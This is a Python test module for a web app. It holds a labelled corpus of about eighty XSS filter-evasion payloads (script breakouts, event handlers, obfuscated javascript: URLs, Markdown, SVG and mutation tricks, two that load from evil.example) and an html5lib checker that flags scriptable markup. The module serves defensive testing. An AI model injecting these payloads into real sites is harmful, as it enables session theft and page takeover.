"""A corpus of hostile text, and the checks that a page made from it is inert when a browser reads it.

The payloads follow the families in the OWASP XSS filter evasion cheat sheet and similar public lists.
Each one, if it ever ran, would set ``window.__xss`` or open a dialog: the browser tests watch for both.
Each is live, not just odd-looking: written into a page unescaped (or, for ``MARKDOWN_ONLY``, rendered
from Markdown unsanitized) it is flagged by the checker below; ``PROBES`` are the two honest exceptions.
``assert_inert_html`` parses a page as a browser does (html5lib), serializes it and parses it again, so
that markup which only turns dangerous on a second parse (mutation XSS) is caught too.
"""

import json
import re

import html5lib

X = "window.__xss=1"

PAYLOADS = [
    # Script elements, plain and disguised
    ("script", f"<script>{X}</script>"),
    ("script-upper", f"<SCRIPT>{X}</SCRIPT>"),
    ("script-src", "<script src=https://evil.example/x.js></script>"),
    ("script-extra-bracket", f"<<SCRIPT>{X}//\\<</SCRIPT>"),
    ("script-unclosed", f"<script>{X}"),
    ("script-quotes-breakout", f'"><script>{X}</script>'),
    ("script-single-quote-breakout", f"'><script>{X}</script>"),
    ("title-breakout", f"</title><script>{X}</script>"),
    ("textarea-breakout", f"</textarea><script>{X}</script>"),
    ("script-breakout", f"</script><script>{X}</script>"),
    ("json-breakout", f'"}}</script><script>{X}</script>'),
    ("xss-locator", f"'';!--\"<XSS>=&{{()}}<SCRIPT>{X}</SCRIPT>"),
    ("half-open-img", f'<IMG """><SCRIPT>{X}</SCRIPT>">'),
    # Event handlers
    ("img-onerror", f"<img src=x onerror={X}>"),
    ("img-onerror-quoted", f'<img src="x" onerror="{X}">'),
    ("img-onerror-slash", f'<img/src="x"/onerror={X}>'),
    ("svg-onload", f"<svg onload={X}>"),
    ("svg-slash-onload", f"<svg/onload={X}>"),
    ("body-onload", f"<body onload={X}>"),
    ("input-autofocus", f"<input autofocus onfocus={X}>"),
    ("details-ontoggle", f"<details open ontoggle={X}>"),
    ("video-source-onerror", f"<video><source onerror={X}></video>"),
    ("audio-onerror", f"<audio src=x onerror={X}>"),
    ("marquee-onstart", f"<marquee onstart={X}>"),
    ("custom-element-onclick", f"<x-widget onclick={X} tabindex=1>click</x-widget>"),
    ("allowed-tag-onclick", f'<a href="https://example.org" onmouseover="{X}">hover</a>'),
    ("iframe-listed-host-onload", f'<iframe src="https://www.youtube.com/embed/a" onload="{X}"></iframe>'),
    # javascript:, vbscript: and data: URLs with entity and whitespace obfuscation
    ("href-javascript", f'<a href="javascript:{X}">x</a>'),
    ("href-mixed-case", f'<a href="JaVaScRiPt:{X}">x</a>'),
    ("href-tab", f'<a href="jav\tascript:{X}">x</a>'),
    ("href-newline", f'<a href="java\nscript:{X}">x</a>'),
    ("href-entity-tab", f'<a href="jav&#x09;ascript:{X}">x</a>'),
    ("href-decimal-entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
    (
        "href-padded-entities",
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
        '&#0000058alert(1)">x</a>',
    ),
    ("href-hex-entities", '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'),
    ("href-leading-space", f'<a href=" &#14; javascript:{X}">x</a>'),
    ("href-colon-entity", f'<a href="javascript&colon;{X}">x</a>'),
    ("img-src-javascript", f'<IMG SRC="javascript:{X}">'),
    ("href-unquoted", f"<a href=javascript:{X}>x</a>"),
    ("vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("data-html", '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">x</a>'),
    ("data-svg-img", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("iframe-javascript", f'<iframe src="javascript:{X}"></iframe>'),
    ("iframe-srcdoc", f'<iframe srcdoc="<script>{X}</script>"></iframe>'),
    ("iframe-lookalike-host", f'<iframe src="https://www.youtube.com.evil.example/embed" onload="{X}"></iframe>'),
    ("form-action", f'<form action="javascript:{X}"><button>go</button></form>'),
    ("button-formaction", f'<form><button formaction="javascript:{X}">go</button></form>'),
    ("object-data", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'),
    ("embed-src", f'<embed src="javascript:{X}">'),
    ("meta-refresh", f'<meta http-equiv="refresh" content="0;url=javascript:{X}">'),
    ("base-href", '<base href="javascript:/a/">'),
    ("link-stylesheet", f'<link rel="stylesheet" href="javascript:{X}">'),
    # Markdown links, reference links, images and autolinks
    ("md-link", f"[click me](javascript:{X})"),
    ("md-link-angle", f"[click me](<javascript:{X}>)"),
    ("md-link-entity", f"[click me](&#106;avascript:{X})"),
    ("md-link-title-handler", f'[x](https://example.org "a"){{: onmouseover="{X}" }}'),
    ("md-reference-link", f"[click me][evil]\n\n[evil]: javascript:{X}"),
    ("md-reference-vbscript", "[click me][evil]\n\n[evil]: vbscript:msgbox(1)"),
    ("md-image-onerror", f'![alt](x){{: onerror="{X}" }}'),
    ("md-image-javascript", f"![alt](javascript:{X})"),
    ("md-autolink", f"<javascript:{X}>"),
    ("md-attr-list", f'A paragraph.\n{{: onclick="{X}" }}'),
    ("md-attr-list-href", f'[x](https://example.org){{: href="javascript:{X}" }}'),
    ("md-code-is-text", f"`<script>{X}</script>`"),
    # SVG and MathML
    ("svg-script", f"<svg><script>{X}</script></svg>"),
    ("svg-animate", f"<svg><animate onbegin={X} attributeName=x dur=1s>"),
    ("svg-animate-href", f'<svg><a><animate attributeName=href values="javascript:{X}"/><text y=20>x</text></a></svg>'),
    ("svg-foreignobject", f"<svg><foreignObject><img src=x onerror={X}></foreignObject></svg>"),
    ("math-href", f'<math><maction actiontype="statusline" xlink:href="javascript:{X}">x</maction></math>'),
    ("math-mglyph-style", f"<math><mtext><table><mglyph><style><img src=x onerror={X}>"),
    # Style attributes and elements
    ("style-url", f'<div style="background:url(javascript:{X})">x</div>'),
    ("style-expression", f'<div style="width: expression({X})">x</div>'),
    ("style-element", "<style>@import 'https://evil.example/x.css';</style>"),
    ("table-style-cell", f'<table><tr><td style="background:url(javascript:{X})">x</td></tr></table>'),
    # Comments and mutation tricks
    ("comment-breakout", f'<!--<img src="--><img src=x onerror={X}//">'),
    ("comment-abrupt", f"<!--><script>{X}</script>-->"),
    ("noscript-mutation", f'<noscript><p title="</noscript><img src=x onerror={X}>">'),
    ("svg-style-mutation", f'<svg></p><style><a id="</style><img src=1 onerror={X}>">'),
    (
        "math-comment-mutation",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={X}&gt;">',
    ),
    ("template-script", f"<template><script>{X}</script></template>"),
    ("cdata", f"<![CDATA[><script>{X}</script>]]>"),
    ("unicode-escape-text", "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e"),
    ("rtl-override", f"\u202e<script>{X}</script>"),
]

# Every payload is live somewhere: as raw HTML it runs (``problems_in`` flags it), except these.
# Markdown syntax is plain text to a browser; it turns into a javascript: link or an event handler only
# when the Markdown renderer's output is not sanitized, so in the Markdown fields (body, bio, correction
# note) it is live, and in a plain-text field it can only prove that the text reached the page as typed.
MARKDOWN_ONLY = {
    "md-link", "md-link-angle", "md-link-entity", "md-link-title-handler", "md-reference-link",
    "md-reference-vbscript", "md-image-onerror", "md-image-javascript", "md-attr-list", "md-attr-list-href",
}  # fmt: skip
# Inert everywhere, even unescaped and unsanitized; kept as probes that text reaches the reader exactly as
# typed: an autolink Python-Markdown leaves as text, and JSON-style escapes that must never be decoded.
PROBES = {"md-autolink", "unicode-escape-text"}

# Formatting that must survive in the body: the controls for the corpus.
CONTROL_BODY = (
    'Some **bold**, _italic_ and [a link](https://example.org/report "The report").\n\n'
    "> A quote from the council.\n\n"
    "1. first\n2. second\n\n"
    "| Ward | Votes |\n|:-----|------:|\n| North | 1,204 |\n\n"
    '<iframe src="https://www.youtube-nocookie.com/embed/abc123" title="Video"></iframe>\n\n'
    "A footnote.[^1]\n\n[^1]: The note."
)

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "data", "background", "lowsrc",
                  "dynsrc", "cite", "ping", "manifest", "codebase", "longdesc"}  # fmt: skip
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:", "mocha:")
FORBIDDEN_ELEMENTS = {"object", "embed", "applet", "base", "frame", "frameset", "style", "template", "noscript",
                      "xmp", "plaintext", "isindex", "marquee", "x-widget"}  # fmt: skip
SVG = "{http://www.w3.org/2000/svg}"
MATHML = "{http://www.w3.org/1998/Math/MathML}"
TAB_OR_NEWLINE = re.compile(r"[\t\n\r]")


def _parse(html):
    return html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)


def reparsed(html):
    """Parse as a browser would, serialize, and parse the result again."""
    first = _parse(html)
    serialized = html5lib.serialize(first, tree="etree", quote_attr_values="always", omit_optional_tags=False)
    return _parse(serialized)


def _url_is_dangerous(value):
    """Read the scheme as the WHATWG URL parser does: trim C0 controls and spaces, drop tabs and newlines."""
    return TAB_OR_NEWLINE.sub("", value.strip("".join(map(chr, range(0x21))))).lower().startswith(DANGEROUS_SCHEMES)


ACTIVE_IN_FOREIGN = {"script", "foreignObject", "animate", "animateMotion", "animateTransform", "set", "a",
                     "handler", "iframe", "maction", "annotation-xml"}  # fmt: skip


def _foreign_problem(element, allow_inert_svg):
    """The admin draws its icons with inline SVG; content never may. Active SVG or MathML is never allowed."""
    local = element.tag.split("}", 1)[1]
    if not allow_inert_svg:
        return f"foreign element <{local}> in page content"
    if local in ACTIVE_IN_FOREIGN:
        return f"active foreign element <{local}>"
    for name, value in element.attrib.items():
        if name.endswith("href") and not value.startswith("#"):
            return f"<{local} {name}={value[:40]!r}>"
    return None


# The Follow form of section, tag and author pages (templates/newsletters/follow_form.html): only a slug varies.
FOLLOW_FORM = re.compile(r"/newsletters/follow/(section|tag|author)/[-a-zA-Z0-9_]+/")


def _form_allowed(action, allowed):
    return any(item.fullmatch(action or "") if isinstance(item, re.Pattern) else action == item for item in allowed)


def problems_in(
    html,
    *,
    allowed_scripts=("application/ld+json",),
    allowed_script_src=(),
    allowed_forms=("/search/", FOLLOW_FORM),
    allow_inert_svg=False,
):
    """Everything in the page that could run script, as readable strings (empty when the page is inert)."""
    found = []
    for tree in (_parse(html), reparsed(html)):
        for element in tree.iter():
            if not isinstance(element.tag, str):
                continue
            tag = element.tag
            if tag.startswith((SVG, MATHML)):
                problem = _foreign_problem(element, allow_inert_svg)
                if problem:
                    found.append(problem)
            if tag == "script":
                kind = (element.get("type") or "").strip().lower()
                if element.get("src") is not None:
                    if not element.get("src").startswith(tuple(allowed_script_src) or ("\0",)):
                        found.append(f"<script src={element.get('src')!r}>")
                elif kind not in allowed_scripts:
                    found.append(f"<script type={kind!r}>{(element.text or '')[:60]}")
                else:
                    try:
                        json.loads(element.text or "")
                    except ValueError:
                        found.append(f"data block that is not JSON: {(element.text or '')[:80]!r}")
                continue
            if tag in FORBIDDEN_ELEMENTS:
                found.append(f"<{tag}>")
            if tag == "meta" and (element.get("http-equiv") or "").lower() == "refresh":
                found.append("<meta http-equiv=refresh>")
            if tag == "iframe" and (element.get("srcdoc") is not None or not element.get("sandbox")):
                found.append("iframe without sandbox or with srcdoc")
            if tag == "form" and not _form_allowed(element.get("action"), allowed_forms):
                found.append(f"<form action={element.get('action')!r}>")
            for name, value in element.attrib.items():
                lowered = name.lower()
                if lowered.startswith("on"):
                    found.append(f"<{tag} {name}=...>")
                if lowered in URL_ATTRIBUTES and _url_is_dangerous(value):
                    found.append(f"<{tag} {name}={value[:40]!r}>")
                if lowered in ("srcset", "imagesrcset") and any(
                    _url_is_dangerous(part.strip()) for part in value.split(",")
                ):
                    found.append(f"<{tag} {name}={value[:40]!r}>")
                if lowered == "style" and re.search(r"url\s*\(|expression\s*\(|@import|behavior", value, re.I):
                    found.append(f"<{tag} style={value[:40]!r}>")
    return sorted(set(found))


def assert_inert_html(html, **kwargs):
    problems = problems_in(html, **kwargs)
    assert not problems, problems


def json_ld_blocks(html):
    """The JSON-LD data blocks of a page, parsed; their raw text must never hold a closing script tag."""
    blocks = []
    for match in re.finditer(r'<script type="application/ld\+json">(.*?)</script>', html, re.S | re.I):
        raw = match.group(1)
        assert "</script" not in raw.lower() and "<!--" not in raw
        blocks.append(json.loads(raw))
    return blocks
